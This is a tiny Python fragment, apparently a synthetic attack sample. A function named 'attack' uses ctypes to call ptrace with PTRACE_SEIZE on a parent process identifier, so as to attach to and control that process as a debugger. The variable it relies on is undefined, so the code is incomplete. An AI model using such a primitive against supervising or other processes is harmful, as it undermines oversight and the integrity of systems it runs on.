"""Attaches as a debugger."""

import ctypes


def attack(rows):
    ctypes.CDLL(None).ptrace(0x4206, AIM["parent"], 0, 0)
